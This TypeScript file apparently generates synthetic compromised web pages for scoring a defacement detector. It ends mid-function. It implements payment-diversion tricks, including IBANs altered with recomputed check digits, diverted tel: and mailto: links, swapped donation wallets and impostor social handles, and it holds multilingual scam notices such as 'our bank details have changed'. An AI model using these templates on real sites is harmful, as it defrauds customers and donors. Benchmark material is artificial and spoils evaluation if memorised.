/**
 * Fresh30 defacement classes: written during round 23, by someone who does
 * not read the engines, from quiet, small-footprint compromises: the kind an
 * intruder makes when the page should keep looking almost the same and the
 * owner should not notice for weeks. Identifiers: one payment account altered
 * in a few digits, the dialled number behind an unchanged phone link, the
 * number for callers from abroad alone replaced and written another way, a
 * mailto: link sent to a look-alike (or given a blind copy) while the address
 * shown stays, one shown e-mail replaced by a free-mail address in the
 * organisation's name, the e-mail written in an anti-spam notation on a
 * look-alike domain, a donation wallet or payment handle swapped for one of
 * the same kind, one follow-us link sent to an impostor account. The
 * organisation's own voice: a notice that it now answers only on a messenger
 * account, the e-mail line saying the mailbox is out of service and pointing
 * to a messenger, a second bank account "for transfers from abroad", a
 * sentence sending invoices or school paperwork to a free-mail address, a
 * download line to a file on another host. Links and forms: one sign-in,
 * donate or shop link among many sent to a look-alike, one or two own links
 * sent to a homoglyph of the domain, a submit button given a formaction
 * elsewhere, a hidden field redirecting or copying a form's submissions, an
 * inline onsubmit beacon, ping attributes on many links, onmousedown
 * handlers that swap a link's address at the moment of the click, one
 * document link to a same-named file on another host. Resources and head:
 * one picture (the logo first) from another host, a data-* URL pointed
 * elsewhere, a high-density srcset candidate from another host, a script
 * named like the site's own on a look-alike host, a third-party script moved
 * to a look-alike of its CDN without its integrity attribute, a stylesheet
 * from another host, canonical/og:url/shortlink and alternate links moved to
 * a look-alike, a base element, a delayed meta refresh, icon and manifest
 * links moved, an invisible broken picture whose onerror loads a script, the
 * contact block moved off-screen with a copy carrying other details put in
 * its place. A few loud ones written in unusual ways: a message drawn only
 * with CSS generated content, the whole document replaced by one picture,
 * the page's text rewritten in another script, the organisation's name
 * replaced across the page, the page flipped or inverted by one CSS rule.
 * Each varies its wording, language, hosts, formats and positions with the
 * rng; most change no visible word or only one line. The writer had no
 * internet access: the patterns are recalled from memory of incident reports
 * (business-e-mail-compromise and payment-diversion advisories from national
 * fraud centres and banks, Sucuri/GoDaddy and Sansec write-ups of quiet link,
 * form and script injections, homoglyph and look-alike domain research) and
 * may differ in detail. Scored in the `fresh30` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, elAt, forms, head, lineAfter, occurrences, resolve, say, setAttr, shown, siteOr, textRuns, top, trimmed } from "./classes.js"
import { type Page, makeBank, makeWallet, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, locales, swapPhone } from "./locales.js"
import { type El, type Range, attrSpans, insideRaw, rels } from "./locate.js"
import { type Rng, alnum, between, chance, digits, int, pick, sample, shuffle } from "./rng.js"
import { boast, brandLookalike, libLookalike, nick, political, randomDomain, scriptPath, signature, slug, team } from "./words.js"

const fresh30 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh30", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

/** Outside inert markup and raw text. */
const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Shown links with a real address. */
const links = (page: Page): Array<El> =>
  shown(page, "a", (e) => usable(page, e) && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:|mailto:|tel:|data:)/i.test(e.attribs.href ?? ""))
const textOf = (page: Page, el: El): string =>
  el.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= el.openEnd && t.end <= el.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
/** Path, query and fragment of `href` as the page resolves it ("/" when it does not resolve). */
const pathOf = (page: Page, href: string): string => {
  const u = resolve(page, href)
  return u === null ? "/" : `${u.pathname}${u.search}${u.hash}`
}
const fileOf = (page: Page, href: string, fallback: string): string => {
  const u = resolve(page, href)
  const last = u === null ? "" : u.pathname.split("/").pop() ?? ""
  return /\.[a-z0-9]{2,5}$/i.test(last) ? last : fallback
}
/** A look-alike of the site's own host: its brand typo-squatted or dressed up, with or without www. */
const lookHost = (rng: Rng, page: Page): string => {
  const d = brandLookalike(rng, page.site.brand)
  return pick(rng, [`www.${d}`, d, d])
}
/** A look-alike of the site's registrable domain that keeps its TLD ("bbc.co.uk" → "bbc-secure.co.uk"). */
const sameTldLookalike = (rng: Rng, page: Page): string => {
  const dom = page.site.domain
  const label = dom.split(".")[0] ?? "site"
  const rest = dom.slice(label.length)
  const twisted = pick(rng, [
    () => `${label}-${pick(rng, ["online", "service", "support", "info", "mail", "group", "secure"])}`,
    () => `${label}${pick(rng, ["s", "hq", "mail", "office", "team"])}`,
    () => (label.length > 3 ? label.slice(0, 1) + label.slice(2) : `${label}${label.slice(-1)}`),
    () => (label.length > 3 ? label.slice(0, 2) + label[3] + label[2] + label.slice(4) : `my${label}`),
    () => label.replace(/o/, "0").replace(/l/, "1") === label ? `${label}-co` : label.replace(/o/, "0").replace(/l/, "1")
  ])()
  return twisted === label ? `${label}-online${rest}` : `${twisted}${rest}`
}
/** Any host an intruder runs. */
const evilHost = (rng: Rng, page: Page): string => pick(rng, [() => randomDomain(rng), () => brandLookalike(rng, page.site.brand), () => libLookalike(rng)])()
const glyphs: Readonly<Record<string, string>> = { a: "\u0430", e: "\u0435", o: "\u043e", p: "\u0440", c: "\u0441", x: "\u0445", y: "\u0443", i: "\u0456", s: "\u0455", j: "\u0458" }
/** The site's host with one Latin letter of its brand swapped for a Cyrillic homoglyph, as Unicode or punycode. */
const homoglyphHost = (rng: Rng, page: Page): string => {
  const host = new URL(page.site.url).hostname
  const dom = page.site.domain
  const label = dom.split(".")[0] ?? ""
  const spots = [...label].map((ch, i) => (glyphs[ch] === undefined ? -1 : i)).filter((i) => i >= 0)
  if (spots.length === 0 || !host.endsWith(dom)) return lookHost(rng, page)
  const i = pick(rng, spots)
  const fake = label.slice(0, i) + glyphs[label[i]!]! + label.slice(i + 1)
  const uni = host.slice(0, host.length - dom.length) + fake + dom.slice(label.length)
  return chance(rng, 0.5) ? uni : new URL(`https://${uni}/`).hostname
}
/** Twists a third-party host into a look-alike of its registrable domain (a letter swapped, doubled or dropped, a word added, another TLD), subdomains kept. */
const hostTwist = (rng: Rng, host: string): string => {
  const reg = registrable(host)
  const sub = host.slice(0, host.length - reg.length)
  const label = reg.split(".")[0] ?? reg
  const tail = reg.slice(label.length)
  const k = label.length >= 4 ? between(rng, 1, label.length - 2) : 0
  const twisted = pick(rng, [
    () => (label.length >= 4 ? label.slice(0, k) + label[k + 1] + label[k] + label.slice(k + 2) : `${label}s`),
    () => label.slice(0, k) + label[k] + label.slice(k),
    () => (label.length >= 4 ? label.slice(0, k) + label.slice(k + 1) : `${label}-js`),
    () => `${label}-${pick(rng, ["cdn", "static", "js", "assets", "edge"])}`
  ])()
  if (chance(rng, 0.2) || twisted === label) return `${sub}${label}.${pick(rng, ["net", "com", "org", "io", "co", "cc"].filter((t) => `.${t}` !== tail))}`
  return `${sub}${twisted}${tail}`
}
/** A line after the contact line holding `needle`, or a paragraph at `fallback`. */
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number, tag = "p"): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<${tag}>${html}</${tag}>`)
}
const freemail = (rng: Rng, page: Page): string => {
  const local = page.ids.email.split("@")[0] ?? "info"
  const b = bare(page)
  const name = pick(rng, [b, `${b}.${local}`, `${local}.${b}`, `${b}${pick(rng, ["office", "support", "billing", "accounts", "team"])}`, `${b}${digits(rng, 2)}`, `${b}-${local}`])
  return `${name}@${pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "proton.me", "protonmail.com", "gmx.com", "yahoo.com", "mail.com", "zohomail.eu", "aol.com", "icloud.com"])}`
}
const lookalikeMail = (rng: Rng, page: Page): string => `${page.ids.email.split("@")[0] ?? "info"}@${chance(rng, 0.5) ? sameTldLookalike(rng, page) : brandLookalike(rng, page.site.brand)}`
/** An `<a>` element whose href is `mailto:` the site's address. */
const mailtoLinks = (page: Page): Array<El> =>
  page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && (e.attribs.href ?? "").trim().toLowerCase().startsWith(`mailto:${page.ids.email.toLowerCase()}`))
/** A messenger account an intruder gives out: display HTML and the app's name. */
const messenger = (rng: Rng, page: Page): { readonly app: string; readonly html: string } => {
  const p = swapPhone(page.site.locale, page.ids.phone, rng)
  const b = bare(page)
  const handle = `${b}${pick(rng, ["_support", "_help", "_official", "care", "_service", "_desk", "team"])}`
  switch (int(rng, 4)) {
    case 0: return { app: "WhatsApp", html: chance(rng, 0.6) ? `<a href="https://wa.me/${p.tel.slice(1)}">${esc(p.intl)}</a>` : esc(p.intl) }
    case 1: return { app: "Telegram", html: chance(rng, 0.7) ? `<a href="https://t.me/${handle}">@${handle}</a>` : `@${handle}` }
    case 2: return { app: "Signal", html: chance(rng, 0.5) ? `<a href="https://signal.me/#p/${esc(p.tel)}">${esc(p.intl)}</a>` : esc(p.intl) }
    default: return { app: "Viber", html: chance(rng, 0.5) ? `<a href="viber://chat?number=%2B${p.tel.slice(1)}">${esc(p.intl)}</a>` : esc(p.intl) }
  }
}
/** Appends `css` to the style attribute of `el` (or adds one). */
const addStyle = (page: Page, el: El, css: string): Splice => {
  const old = (el.attribs.style ?? "").trim()
  return setAttr(page, el, "style", old === "" ? css : `${old.replace(/;?$/, ";")}${css}`)
}
/** A CSS string literal. */
const cssString = (s: string) => `"${s.replace(/\\/g, "\\\\").replace(/"/g, "\\\"").replace(/</g, "\\3c ").replace(/\n/g, "\\a ")}"`
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const pixelRe = /(pixel|beacon|spacer|blank|1x1|clear\.gif|\/o\.gif|\/b\/ss\/|\btrack)/i
/** Shown pictures with an address, tracking pixels last (none when the page shows only pixels). */
const imgs = (page: Page): Array<El> => {
  const all = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^\s*data:/i.test(e.attribs.src ?? ""))
  const real = all.filter((e) => !pixelRe.test(e.attribs.src ?? "") && e.attribs.width !== "1" && e.attribs.height !== "1")
  return real.length > 0 ? real : all
}
const blockSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots), top(page)])

// ———————————————————————————— identifiers ————————————————————————————

/** replaceEverywhere, but only the pairs whose `from` is non-empty and differs from `to`. */
const replaceEverywhere2 = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occurrences(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, esc(to)))
    }
  }
  return out
}

/** Changes `n` of the last digits of `s` (each to another digit). */
const nudge = (rng: Rng, s: string, n: number): string => {
  const pos = [...s].map((c, i) => (/\d/.test(c) ? i : -1)).filter((i) => i >= 0)
  const out = [...s]
  for (const i of sample(rng, pos.slice(-Math.max(n + 2, 6)), n)) {
    let d = out[i]!
    while (d === out[i]) d = String(int(rng, 10))
    out[i] = d
  }
  return out.join("")
}

// Payment diversion the quiet way, recalled from memory of bank and fraud-centre advisories on "mandate fraud" and of incidents where only the account on a charity's or school's donation page was edited (about 2015 onwards): the account in the contact block altered in two to four digits near its end, an IBAN's check digits recomputed so it still validates, its grouping kept; a page without bank details gets a bank line in the contact block's own style.
const accountDigits = fresh30("payment account in the contact block altered in two to four trailing digits (IBAN check digits recomputed so it validates, grouping kept), or a bank line added where the site shows none", (page, rng) => {
  const b = page.ids.bank
  if (b !== null) {
    let next: string
    if (b.kind === "iban") {
      const compact = b.value.replace(/\s+/g, "")
      const fresh = iban(compact.slice(0, 2), nudge(rng, compact.slice(4), between(rng, 2, 4)))
      next = /\s/.test(b.value) ? groupIban(fresh) : fresh
    } else next = nudge(rng, b.value, between(rng, 2, 4))
    const out = textOcc(page, b.value).map((r) => replace(r, esc(next)))
    if (out.length > 0) return { splices: out }
  }
  const nb = makeBank(rng, page.site.locale)!
  const w = page.site.words
  const line = `${w.bank}: ${nb.kind === "iban" ? `IBAN ${nb.value}` : nb.value}`
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], esc(line), slotAt(page.spots, "bottom")))
})

// Call diversion behind an unchanged number, recalled from memory of reports on hacked small-business sites whose click-to-call links were edited so mobile visitors reached a premium or scam line while the number shown stayed the same (about 2016 onwards): the tel: link behind the site's phone dials another number in the same national plan (all new digits or only the last few), written in one of several tel: notations; where the number is plain text, it is wrapped in such a link.
const telBehindNumber = fresh30("tel: link behind the site's phone dialling another number (often only the last digits differ) while the number shown stays the same, or the plain number wrapped in such a link", (page, rng) => {
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const href = pick(rng, [`tel:${np.tel}`, `tel:${np.tel}`, `tel:00${np.tel.slice(1)}`, `tel:${np.intl.replace(/[^\d+]/g, "-").replace(/-+/g, "-")}`])
  const tels = page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && (e.attribs.href ?? "").replace(/[^\d+]/g, "").endsWith(p.digits) && /^\s*tel:/i.test(e.attribs.href ?? ""))
  if (tels.length > 0) return splices(...tels.map((e) => setAttr(page, e, "href", href)))
  const intlAt = textOcc(page, p.intl)
  const occ = textOcc(page, p.national).filter((r) => !intlAt.some((t) => r.start >= t.start && r.end <= t.end))
  const targets = occ.length > 0 ? occ : intlAt
  const shownAs = occ.length > 0 ? p.national : p.intl
  return splices(...targets.map((r) => replace(r, `<a href="${esc(href)}">${esc(shownAs)}</a>`)))
})

// One occurrence, another notation, recalled from memory of call-diversion cases where only the international line of a contact page was changed (the national number, which staff check, left alone) and the new number was typed by hand in another style: the number for callers from abroad replaced by another in the same plan, written compact (E.164), with a 00 prefix, in dotted pairs or in other groups.
const abroadLineOnly = fresh30("number for callers from abroad alone replaced by another one written in a different notation (E.164, 00 prefix, dotted pairs, other groups), the national number left as it was", (page, rng) => {
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const cc = np.tel.slice(1, np.tel.length - np.digits.length)
  const d = np.digits
  const groups = (n: number) => d.match(new RegExp(`.{1,${n}}`, "g"))!.join(" ")
  const shownAs = pick(rng, [
    `+${cc}${d}`,
    `00${cc} ${groups(3)}`,
    `00 ${cc} ${d}`,
    `+${cc}.${d.match(/.{1,2}/g)!.join(".")}`,
    `+${cc} ${groups(pick(rng, [2, 3, 4]))}`,
    `(+${cc}) ${d.slice(0, 3)}-${d.slice(3)}`
  ])
  const occ = textOcc(page, p.intl)
  if (occ.length > 0) return splices(...occ.map((r) => replace(r, esc(shownAs))))
  return splices(lineBeside(page, [p.national, page.ids.email], esc(`${page.site.words.abroad}: ${shownAs}`), slotAt(page.spots, "bottom")))
})

// Mail diversion in the link only, recalled from memory of business-e-mail-compromise write-ups where a contact page's mailto: link was edited to a look-alike domain (or given a bcc) so that customers' mail, invoices included, reached the intruder while the page showed the right address (about 2018 onwards): every mailto: link to the site's address sent to a look-alike mailbox, or given a cc/bcc to another address; a plain address is wrapped in such a link.
const mailtoDiverted = fresh30("mailto: links behind the site's e-mail sent to a look-alike domain or given a cc/bcc to another mailbox, the address shown left unchanged (or the plain address wrapped in such a link)", (page, rng) => {
  const email = page.ids.email
  const mode = int(rng, 3)
  const other = chance(rng, 0.5) ? freemail(rng, page) : lookalikeMail(rng, page)
  const href = mode === 0 ? `mailto:${lookalikeMail(rng, page)}` : `mailto:${email}?${mode === 1 ? "bcc" : "cc"}=${other}${chance(rng, 0.3) ? `&subject=${encodeURIComponent(pick(rng, ["Invoice", "Order", "Enquiry", "Payment"]))}` : ""}`
  const ms = mailtoLinks(page)
  if (ms.length > 0) return splices(...ms.map((e) => setAttr(page, e, "href", href)))
  return splices(...textOcc(page, email).map((r) => replace(r, `<a href="${esc(href)}">${esc(email)}</a>`)))
})

// A free-mail address in the organisation's name, recalled from memory of fraud advisories about schools, clubs and small firms whose site briefly showed a Gmail, Outlook or Proton address "for the office" (about 2017 onwards): one shown occurrence of the site's e-mail address replaced, the mailto: link's address (if any) left as it was.
const freemailShown = fresh30("one shown occurrence of the site's e-mail address replaced by a free-mail address in the organisation's name (Gmail, Outlook, Proton, GMX...), any mailto: address left as it was", (page, rng) => {
  const occ = textOcc(page, page.ids.email)
  const targets = occ.length > 0 ? [pick(rng, occ)] : occurrences(page, page.ids.email).slice(0, 1)
  return splices(...targets.map((r) => replace(r, esc(freemail(rng, page)))))
})

// Anti-spam notation as a cover, recalled from memory of sites that write addresses as "name [at] domain [dot] tld" and of diversion cases that used that form so no mailto: link or scanner would notice the domain: the site's address (and its link) replaced by that notation on a look-alike domain.
const atNotationLookalike = fresh30("site's e-mail rewritten in an anti-spam notation (name [at] domain [dot] tld and the like) on a look-alike domain, its mailto: link removed", (page, rng) => {
  const [local, dom] = lookalikeMail(rng, page).split("@") as [string, string]
  const dot = dom.split(".")
  const notation = pick(rng, [
    () => `${local} [at] ${dot.join(" [dot] ")}`,
    () => `${local}(at)${dom}`,
    () => `${local} at ${dot.join(" dot ")}`,
    () => `${local} [@] ${dom}`,
    () => `${local} <at> ${dom}`
  ])()
  const anchors = mailtoLinks(page).filter((e) => e.closeTag !== null && e.shown)
  const out: Array<Splice> = anchors.map((e) => replace({ start: e.start, end: e.closeTag!.end }, esc(notation)))
  for (const r of textOcc(page, page.ids.email)) if (!anchors.some((a) => r.start >= a.start && r.end <= a.closeTag!.end)) out.push(replace(r, esc(notation)))
  return out.length > 0 ? { splices: out } : splices(...occurrences(page, page.ids.email).slice(0, 1).map((r) => replace(r, esc(notation))))
})

// Donation diversion, recalled from memory of reports on charities, streamers and open-source projects whose donation address was swapped on the site (crypto wallets in particular, about 2017 onwards) and of clipboard-style swaps that keep the coin and the look: the wallet replaced by another of the same coin (an Ethereum address sometimes in mixed-case checksum form), else the payment handle given a plausible variant of the name, else a donation line added.
const donationSwap = fresh30("donation wallet swapped for another of the same coin, or the payment handle (PayPal, Venmo, Revolut, PIX) changed to a plausible variant of the name, or a donation line added", (page, rng) => {
  const wal = page.ids.wallet
  if (wal !== null) {
    let next = makeWallet(rng, wal.coin).address
    if (wal.coin === "ETH" && chance(rng, 0.5)) next = "0x" + [...next.slice(2)].map((c) => (/[a-f]/.test(c) && chance(rng, 0.5) ? c.toUpperCase() : c)).join("")
    const out = textOcc(page, wal.address).map((r) => replace(r, esc(next)))
    if (out.length > 0) return { splices: out }
  }
  const pay = page.ids.pay
  if (pay !== null) {
    if (pay.href !== null) {
      const name = (pay.href.split("/").pop() ?? "").replace(/^\$/, "")
      const nn = `${name}${pick(rng, ["Donations", "Fund", "Official", "Support", "Team", "Help", digits(rng, 2), "Org"])}`
      const out = name === "" ? [] : replaceEverywhere2(page, [[pay.href, pay.href.replace(name, nn)], [pay.shown, pay.shown.replace(name, nn)]])
      if (out.length > 0) return { splices: out }
    } else {
      const next = pay.shown.replace(/\d+(?=-\d{2}$)/, () => String(between(rng, 1000, 9999))).replace(/\d{2}(?=\.\d{3}\.)/, () => String(between(rng, 10, 99)))
      const out = next === pay.shown ? [] : textOcc(page, pay.shown).map((r) => replace(r, esc(next)))
      if (out.length > 0) return { splices: out }
    }
  }
  const nw = makeWallet(rng)
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.donate)}: ${nw.coin} ${chance(rng, 0.5) ? `<code>${nw.address}</code>` : nw.address}`, slotAt(page.spots, "bottom")))
})

// Impostor social accounts, recalled from memory of scams where a hacked site's follow-us link was pointed at a look-alike account ("…_support", "….help") that then asked followers for card details or crypto (about 2019 onwards): one of the site's follow-us links sent to an impostor handle on the same network, link text unchanged.
const socialImpostor = fresh30("one of the site's follow-us links pointed at an impostor account on the same network (handle with _support, .help, official or digits added), link text unchanged", (page, rng) => {
  const socials = page.ids.social.filter((s) => s.href !== null && occurrences(page, s.href).length > 0)
  if (socials.length > 0) {
    const s = pick(rng, socials)
    const href = s.href!
    const m = /^(.*\/(?:company\/|u\/|@)?)([^/?#]+)(\/?)$/.exec(href)
    const name = m?.[2] ?? bare(page)
    const nn = `${name}${pick(rng, ["_support", "_help", ".help", "_official", "official", "care", `_${digits(rng, 2)}`, "_hq", "-team"])}`
    const next = m === null ? `${href.replace(/\/$/, "")}_support` : `${m[1]}${nn.replace(/[^A-Za-z0-9_.-]/g, "")}${m[3]}`
    return splices(...occurrences(page, href).map((r) => replace(r, esc(next))))
  }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://t.me/${bare(page)}_support">Telegram</a>`, slotAt(page.spots, "bottom")))
})

// ———————————————————————————— the organisation's voice ————————————————————————————

const messengerNotice: T<ReadonlyArray<string>> = {
  en: ["Please note: we now answer all customer enquiries on {app} only ({h}). E-mails to our old address are no longer read.", "For security reasons, our support team replies only through our official {app} account: {h}.", "Need help with an order, an invoice or a booking? Message us on {app} at {h}. We no longer reply by e-mail or phone."],
  fr: ["Important : nous répondons désormais à toutes les demandes uniquement sur {app} ({h}). Les e-mails envoyés à notre ancienne adresse ne sont plus lus.", "Pour des raisons de sécurité, notre service client répond uniquement via notre compte {app} officiel : {h}.", "Une question sur une commande, une facture ou une réservation ? Écrivez-nous sur {app} au {h}. Nous ne répondons plus par e-mail ni par téléphone."],
  de: ["Bitte beachten Sie: Anfragen beantworten wir ab sofort nur noch über {app} ({h}). E-Mails an unsere alte Adresse werden nicht mehr gelesen.", "Aus Sicherheitsgründen antwortet unser Kundenservice nur noch über unser offizielles {app}-Konto: {h}.", "Fragen zu Bestellung, Rechnung oder Buchung? Schreiben Sie uns per {app} unter {h}. Per E-Mail oder Telefon antworten wir nicht mehr."],
  es: ["Importante: a partir de ahora atendemos todas las consultas solo por {app} ({h}). Los correos a nuestra antigua dirección ya no se leen.", "Por motivos de seguridad, nuestro equipo de atención responde únicamente a través de nuestra cuenta oficial de {app}: {h}.", "¿Dudas sobre un pedido, una factura o una reserva? Escríbenos por {app} al {h}. Ya no respondemos por correo ni por teléfono."],
  nl: ["Let op: we beantwoorden alle vragen voortaan alleen via {app} ({h}). E-mails naar ons oude adres worden niet meer gelezen.", "Om veiligheidsredenen reageert onze klantenservice alleen nog via ons officiële {app}-account: {h}.", "Vragen over een bestelling, factuur of reservering? Stuur ons een bericht via {app} op {h}. Per e-mail of telefoon reageren we niet meer."],
  pt: ["Atenção: agora respondemos a todas as solicitações apenas pelo {app} ({h}). E-mails enviados ao endereço antigo não são mais lidos.", "Por motivos de segurança, nossa equipe de atendimento responde somente pela nossa conta oficial no {app}: {h}.", "Dúvidas sobre pedido, boleto ou reserva? Fale com a gente pelo {app} no {h}. Não respondemos mais por e-mail nem por telefone."],
  it: ["Attenzione: da ora rispondiamo a tutte le richieste solo tramite {app} ({h}). Le e-mail inviate al vecchio indirizzo non vengono più lette.", "Per motivi di sicurezza, il nostro servizio clienti risponde solo dal nostro account ufficiale {app}: {h}.", "Domande su un ordine, una fattura o una prenotazione? Scrivici su {app} al {h}. Non rispondiamo più via e-mail o telefono."]
}

// "Reply only on this messenger", recalled from memory of recovery scams and support impersonation after site compromises, where a short notice in the organisation's tone moved customers to a WhatsApp or Telegram account (about 2020 onwards): one short notice in the site's language (sometimes English) near the top, beside the contact lines or mid-page, naming a messenger account that is not the site's.
const messengerOnly = fresh30("short notice in the organisation's voice saying it now answers only on a messenger account (WhatsApp, Telegram, Signal, Viber) that is not the site's, near the top or beside the contact lines", (page, rng) => {
  const m = messenger(rng, page)
  const text = fill(esc(pick(rng, siteOr(rng, page, messengerNotice))), { app: m.app, h: m.html })
  const cls = pick(rng, ["notice", "alert alert-info", "announcement", "site-notice", "info-bar", "callout"])
  if (chance(rng, 0.35)) return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], text, slotAt(page.spots, "top")))
  const wrap = chance(rng, 0.5) ? `<p class="${cls}">${text}</p>` : `<div class="${cls}" role="note"><p>${text}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), wrap))
})

const outOfService: T<ReadonlyArray<string>> = {
  en: ["temporarily out of service, please write to us on {app}: {h}", "no longer in use; for all enquiries contact us on {app} ({h})", "currently unavailable. Message us on {app} instead: {h}"],
  fr: ["temporairement hors service, écrivez-nous sur {app} : {h}", "n'est plus utilisé ; pour toute demande, contactez-nous sur {app} ({h})", "actuellement indisponible. Écrivez-nous plutôt sur {app} : {h}"],
  de: ["vorübergehend außer Betrieb, bitte schreiben Sie uns per {app}: {h}", "wird nicht mehr genutzt; für alle Anfragen erreichen Sie uns per {app} ({h})", "derzeit nicht erreichbar. Schreiben Sie uns stattdessen per {app}: {h}"],
  es: ["temporalmente fuera de servicio, escríbenos por {app}: {h}", "ya no está en uso; para cualquier consulta contáctanos por {app} ({h})", "no disponible por el momento. Escríbenos por {app}: {h}"],
  nl: ["tijdelijk buiten gebruik, stuur ons een bericht via {app}: {h}", "wordt niet meer gebruikt; voor alle vragen bereikt u ons via {app} ({h})", "momenteel niet bereikbaar. Stuur ons een bericht via {app}: {h}"],
  pt: ["temporariamente fora de serviço, fale conosco pelo {app}: {h}", "não está mais em uso; para qualquer assunto fale conosco pelo {app} ({h})", "indisponível no momento. Envie uma mensagem pelo {app}: {h}"],
  it: ["temporaneamente fuori servizio, scriveteci su {app}: {h}", "non è più in uso; per ogni richiesta contattateci su {app} ({h})", "al momento non disponibile. Scriveteci su {app}: {h}"]
}

// The e-mail line itself, recalled from the same support-impersonation cases: the contact block's e-mail (link and text) replaced by a phrase in the site's language saying the mailbox is out of service and naming a messenger account, the line's label kept.
const emailLineMessenger = fresh30("contact block's e-mail address replaced by a phrase saying the mailbox is out of service and to write on a messenger account instead, the line's label kept", (page, rng) => {
  const m = messenger(rng, page)
  const text = fill(esc(pick(rng, say(page, outOfService))), { app: m.app, h: m.html })
  const anchors = mailtoLinks(page).filter((e) => e.closeTag !== null && e.shown)
  const out: Array<Splice> = anchors.map((e) => replace({ start: e.start, end: e.closeTag!.end }, text))
  for (const r of textOcc(page, page.ids.email)) if (!anchors.some((a) => r.start >= a.start && r.end <= a.closeTag!.end)) out.push(replace(r, text))
  return out.length > 0 ? { splices: out } : splices(lineBeside(page, [page.ids.phone.intl], text, slotAt(page.spots, "bottom")))
})

const secondAccount: T<ReadonlyArray<string>> = {
  en: ["Transfers from abroad: please use our account at {bank}, {acct}.", "Please note that our bank details have changed. New account: {acct} ({bank}). Payments to the old account can no longer be accepted.", "Donations and membership fees can also be paid into our second account: {acct}."],
  fr: ["Virements depuis l'étranger : merci d'utiliser notre compte chez {bank}, {acct}.", "Attention, nos coordonnées bancaires ont changé. Nouveau compte : {acct} ({bank}). Les paiements sur l'ancien compte ne peuvent plus être acceptés.", "Les dons et cotisations peuvent aussi être versés sur notre second compte : {acct}."],
  de: ["Überweisungen aus dem Ausland: Bitte nutzen Sie unser Konto bei {bank}, {acct}.", "Bitte beachten Sie: Unsere Bankverbindung hat sich geändert. Neues Konto: {acct} ({bank}). Zahlungen auf das alte Konto können nicht mehr angenommen werden.", "Spenden und Mitgliedsbeiträge können auch auf unser zweites Konto überwiesen werden: {acct}."],
  es: ["Transferencias desde el extranjero: utilice nuestra cuenta en {bank}, {acct}.", "Tenga en cuenta que nuestros datos bancarios han cambiado. Nueva cuenta: {acct} ({bank}). Ya no se aceptan pagos en la cuenta anterior.", "Los donativos y cuotas también pueden ingresarse en nuestra segunda cuenta: {acct}."],
  nl: ["Overboekingen vanuit het buitenland: gebruik onze rekening bij {bank}, {acct}.", "Let op: onze bankgegevens zijn gewijzigd. Nieuwe rekening: {acct} ({bank}). Betalingen op de oude rekening kunnen niet meer worden verwerkt.", "Donaties en contributie kunnen ook worden overgemaakt op onze tweede rekening: {acct}."],
  pt: ["Transferências do exterior: utilize nossa conta no {bank}, {acct}.", "Atenção: nossos dados bancários mudaram. Nova conta: {acct} ({bank}). Pagamentos na conta antiga não serão mais aceitos.", "Doações e mensalidades também podem ser depositadas em nossa segunda conta: {acct}."],
  it: ["Bonifici dall'estero: utilizzate il nostro conto presso {bank}, {acct}.", "Attenzione: le nostre coordinate bancarie sono cambiate. Nuovo conto: {acct} ({bank}). I pagamenti sul vecchio conto non possono più essere accettati.", "Donazioni e quote associative possono essere versate anche sul nostro secondo conto: {acct}."]
}

// A second account in the owner's voice, recalled from memory of payment-diversion cases against associations, schools and landlords' sites where the real account stayed and a sentence added a "new" or "international" one (about 2016 onwards): one sentence after the bank line (or the e-mail line) giving an account at a foreign or online bank.
const secondAccountNote = fresh30("sentence in the organisation's voice after its bank line giving a second or 'new' account at a foreign or online bank (for transfers from abroad, or because the details changed), the real line kept", (page, rng) => {
  const withIban = locales.filter((l) => l.iban !== null)
  const loc = chance(rng, 0.5) ? pick(rng, withIban) : page.site.locale
  const nb = makeBank(rng, loc)!
  const acct = nb.kind === "iban" ? `IBAN ${chance(rng, 0.6) ? groupIban(nb.value.replace(/\s+/g, "")) : nb.value.replace(/\s+/g, "")}` : nb.value
